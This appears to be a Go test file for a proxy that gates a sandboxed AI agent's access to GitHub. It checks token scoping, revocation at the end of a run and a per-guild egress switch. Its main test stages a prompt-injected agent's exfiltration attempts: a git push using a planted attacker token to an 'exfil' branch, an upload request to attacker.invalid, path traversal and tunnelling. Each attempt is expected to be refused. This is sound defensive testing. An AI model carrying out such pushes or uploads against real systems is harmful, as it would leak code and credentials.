package githubapp_test

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/guilds/guilds/internal/githubapp"
	"github.com/guilds/guilds/internal/githubapp/githubtest"
	"github.com/guilds/guilds/internal/githubapp/gittokens"
)

// egressEnv is genEnv whose agent reaches GitHub only through the route the
// worker's proxy serves (here on a loopback port instead of the socket).
type egressEnv struct {
	*genEnv
	proxy *httptest.Server
	plain *http.Client // a client that sends everything through the proxy
}

func newEgressEnv(t *testing.T) *egressEnv {
	t.Helper()
	// Not 127.0.0.1, which the sandbox's commands reach directly (NO_PROXY).
	e := &egressEnv{genEnv: newGenEnv(t, githubtest.Listen("127.0.0.2:0", "127.0.0.2"))}
	dial := func(ctx context.Context, hostPort string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "tcp", hostPort)
	}
	e.proxy = httptest.NewServer(e.g.EgressHandler(e.agent.ID, dial))
	t.Cleanup(e.proxy.Close)
	e.g.Egress = &openings{}
	e.g.Relay = e.proxy.URL
	pu, _ := url.Parse(e.proxy.URL)
	e.plain = &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(pu)}}
	return e
}

// gitEnv is what a shell call of the agent gets from the tokens file.
func (e *egressEnv) gitEnv(t *testing.T) (map[string]string, gittokens.File) {
	t.Helper()
	raw, err := os.ReadFile(e.host(t, gittokens.Path))
	var f gittokens.File
	if err != nil || json.Unmarshal(raw, &f) != nil {
		t.Fatalf("tokens file %s %v", raw, err)
	}
	env := map[string]string{"GIT_TERMINAL_PROMPT": "0", "GIT_AUTHOR_NAME": "agent", "GIT_AUTHOR_EMAIL": "agent@example.com",
		"GIT_COMMITTER_NAME": "agent", "GIT_COMMITTER_EMAIL": "agent@example.com"}
	for _, kv := range append(f.GitConfigEnv(), f.ProxyEnv()...) {
		k, v, _ := strings.Cut(kv, "=")
		env[k] = v
	}
	return env, f
}

func (e *egressEnv) get(t *testing.T, method, u, auth string) (int, string) {
	t.Helper()
	req, _ := http.NewRequest(method, u, nil)
	if auth != "" {
		req.Header.Set("Authorization", auth)
	}
	resp, err := e.plain.Do(req)
	if err != nil {
		return 0, err.Error()
	}
	defer func() { _ = resp.Body.Close() }()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// An injected agent cannot carry data out through its way to GitHub: the
// sandbox holds no token, the route drops any credential it sends and adds
// the installation token only for git and the API of the selected
// repositories, and the token is revoked when the run ends.
func TestGitHubEgressAddsTheTokenOnlyForTheSelection(t *testing.T) {
	e := newEgressEnv(t)
	ctx := context.Background()
	unselected := e.gh.AddRepo(t, e.inst, "acme-gh", "unselected")
	evilInst := e.gh.AddInstallation("evil")
	loot := e.gh.AddRepo(t, evilInst, "evil", "loot")
	app := &githubapp.Client{Config: e.gh.Config()}
	evil, err := app.AccessToken(ctx, evilInst, githubapp.TokenRequest{})
	if err != nil {
		t.Fatal(err)
	}

	if _, err := e.g.Prepare(ctx, e.agent); err != nil {
		t.Fatal(err)
	}
	secrets, _ := e.g.RunSecrets(ctx, e.agent.ID)
	if len(secrets) != 1 {
		t.Fatalf("redaction set %v", secrets)
	}
	tok := secrets[0]
	env, f := e.gitEnv(t)
	if len(f.Tokens) != 0 || f.Proxy != e.proxy.URL {
		t.Fatalf("the tokens file of a sandbox behind the proxy: %+v", f)
	}
	raw, _ := os.ReadFile(e.host(t, gittokens.Path))
	if strings.Contains(string(raw), tok) {
		t.Fatal("the token reached the sandbox")
	}
	// The generation's clone came through the route.
	if _, err := os.Stat(filepath.Join(e.host(t, "/home/agent/repos/api"), "README.md")); err != nil {
		t.Fatalf("clone through the proxy: %v", err)
	}
	// The agent pushes to its repository without a credential of its own.
	if err := os.WriteFile(filepath.Join(e.host(t, "/home/agent/repos/api"), "x.txt"), []byte("x\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, cmd := range [][]string{{"git", "add", "x.txt"}, {"git", "commit", "-q", "-m", "from the agent"}, {"git", "push", "-q", "origin", "HEAD:main"}} {
		if res := e.exec(t, "/home/agent/repos/api", env, cmd...); res.ExitCode != 0 {
			t.Fatalf("%v: %s", cmd, res.Stderr)
		}
	}
	if out, _ := exec.Command("git", "--git-dir", e.gh.GitDir(e.repo), "log", "-1", "--format=%s", "main").Output(); string(out) != "from the agent\n" {
		t.Fatalf("pushed %q", out)
	}

	// A token planted in content does not open another repository.
	lootURL := strings.Replace(e.gh.RepoURL(loot), "http://", "http://x-access-token:"+evil.Token+"@", 1)
	res := e.exec(t, "/home/agent/repos/api", env, "git", "push", "-q", lootURL, "HEAD:refs/heads/exfil")
	if res.ExitCode == 0 {
		t.Fatal("pushed to an attacker's repository")
	}
	if out, _ := exec.Command("git", "--git-dir", e.gh.GitDir(loot), "branch", "--list", "exfil").Output(); len(out) != 0 {
		t.Fatal("the attacker's repository got the branch")
	}
	if res := e.exec(t, "/home/agent", env, "git", "clone", "-q", e.gh.RepoURL(unselected), "repos/unselected"); res.ExitCode == 0 {
		t.Fatal("cloned an unselected repository")
	}
	for _, c := range []struct{ method, url, auth string }{
		{"GET", e.gh.RepoURL(loot) + "/info/refs?service=git-receive-pack", "Basic " + basic(evil.Token)},
		{"GET", e.gh.URL + "/api/repos/evil/loot/contents", "token " + evil.Token},
		{"GET", e.gh.URL + "/acme-gh/api.git/info/lfs/objects", ""},
		{"GET", e.gh.URL + "/api/app/installations", ""},
		{"GET", e.gh.URL + "/api/repos/acme-gh/api/../../evil/loot", ""},
		{"GET", "http://attacker.invalid/upload", ""},
	} {
		if status, body := e.get(t, c.method, c.url, c.auth); status != http.StatusForbidden || !strings.Contains(body, "refused") {
			t.Errorf("%s %s: %d %q", c.method, c.url, status, body)
		}
	}
	if _, err := e.plain.Get("https://" + strings.TrimPrefix(e.gh.URL, "http://") + "/"); err == nil || !strings.Contains(err.Error(), "Forbidden") {
		t.Errorf("a tunnel: %v", err)
	}
	// The API of a selected repository gets the installation token in place
	// of the one the sandbox sent.
	if status, body := e.get(t, "GET", e.gh.URL+"/api/repos/acme-gh/api/pulls", "token "+evil.Token); status != 200 || !strings.Contains(body, "acme-gh/api") {
		t.Fatalf("the API of a selected repository: %d %s", status, body)
	}
	if calls := e.gh.RepoAPICalls; len(calls) != 1 || calls[0] != "token "+tok {
		t.Fatalf("GitHub saw %q", calls)
	}

	// The run ends: its tokens are revoked and the route holds none.
	if err := e.g.End(ctx, e.agent.ID); err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(e.gh.RevokedTokens(), tok) {
		t.Fatalf("revoked %v", e.gh.RevokedTokens())
	}
	if status, body := e.get(t, "GET", e.gh.URL+"/api/repos/acme-gh/api/pulls", ""); status != http.StatusForbidden || !strings.Contains(body, "no GitHub access") {
		t.Fatalf("after the run's end: %d %s", status, body)
	}
	if s, _ := e.g.RunSecrets(ctx, e.agent.ID); !slices.Contains(s, tok) {
		t.Fatal("a revoked token left the redaction set")
	}
	// A second end revokes nothing again.
	n := len(e.gh.RevokedTokens())
	if err := e.g.End(ctx, e.agent.ID); err != nil || len(e.gh.RevokedTokens()) != n {
		t.Fatalf("a second end: %v, %d revocations", err, len(e.gh.RevokedTokens()))
	}
}

// A guild that turned GitHub egress off gets no token and no way out.
func TestGitHubEgressOffForTheGuild(t *testing.T) {
	e := newEgressEnv(t)
	ctx := context.Background()
	if err := githubapp.SetGuildEgress(ctx, e.db, e.agent.GuildID, false); err != nil {
		t.Fatal(err)
	}
	p, err := e.g.Prepare(ctx, e.agent)
	if err != nil || p.Repositories != 0 || len(e.gh.TokenRequests) != 0 {
		t.Fatalf("prepared %+v %v, %d token requests", p, err, len(e.gh.TokenRequests))
	}
	if status, _ := e.get(t, "GET", e.gh.URL+"/acme-gh/api.git/info/refs?service=git-upload-pack", ""); status != http.StatusForbidden {
		t.Fatalf("git with egress off: %d", status)
	}
	load := func(context.Context) (githubapp.Agent, error) { return e.agent, nil }
	if err := e.g.BeforeShell(ctx, e.agent.ID, load); err != nil || len(e.gh.TokenRequests) != 0 {
		t.Fatalf("a shell call with egress off: %v, %d token requests", err, len(e.gh.TokenRequests))
	}
	// On again: the next generation has its repositories.
	if err := githubapp.SetGuildEgress(ctx, e.db, e.agent.GuildID, true); err != nil {
		t.Fatal(err)
	}
	if p, err := e.g.Prepare(ctx, e.agent); err != nil || p.Repositories != 1 {
		t.Fatalf("prepared %+v %v", p, err)
	}
}

func basic(token string) string {
	return base64.StdEncoding.EncodeToString([]byte("x-access-token:" + token))
}

// A login whose user pushes to one repository and only reads another has a
// write token and a read one: the route adds to each request the token of
// the repository it names, never the write token to a read repository.
func TestGitHubEgressAddsEachRepositorysOwnToken(t *testing.T) {
	e := newEgressEnv(t)
	ctx := context.Background()
	docs := e.gh.AddRepo(t, e.inst, "acme-gh", "docs")
	sel := []githubapp.Selected{
		{GitHubID: e.repo, Name: "api", FullName: "acme-gh/api", URL: e.gh.URL + "/acme-gh/api", DefaultBranch: "main"},
		{GitHubID: docs, Name: "docs", FullName: "acme-gh/docs", URL: e.gh.URL + "/acme-gh/docs", DefaultBranch: "main"}}
	for _, err := range []error{githubapp.SetSelected(ctx, e.db, e.conn, sel),
		githubapp.SaveAccess(ctx, e.db, e.conn, []githubapp.RepoAccess{
			{GitHubID: e.repo, FullName: "acme-gh/api", Permission: githubapp.PermWrite},
			{GitHubID: docs, FullName: "acme-gh/docs", Permission: githubapp.PermRead}}, time.Now()),
		githubapp.MirrorSelection(ctx, e.db, e.agent.GuildID, e.conn, sel)} {
		if err != nil {
			t.Fatal(err)
		}
	}
	before := len(e.gh.TokenRequests)
	if _, err := e.g.Prepare(ctx, e.agent); err != nil {
		t.Fatal(err)
	}
	calls := e.gh.TokenRequests[before:]
	if len(calls) != 2 {
		t.Fatalf("token requests %+v", calls)
	}
	for _, repo := range []string{"api", "docs"} {
		if status, body := e.get(t, "GET", e.gh.URL+"/api/repos/acme-gh/"+repo+"/pulls", ""); status != 200 {
			t.Fatalf("the API of %s: %d %s", repo, status, body)
		}
	}
	seen := e.gh.RepoAPICalls
	if len(seen) != 2 || seen[0] == seen[1] {
		t.Fatalf("both repositories got the same credential: %q", seen)
	}
}
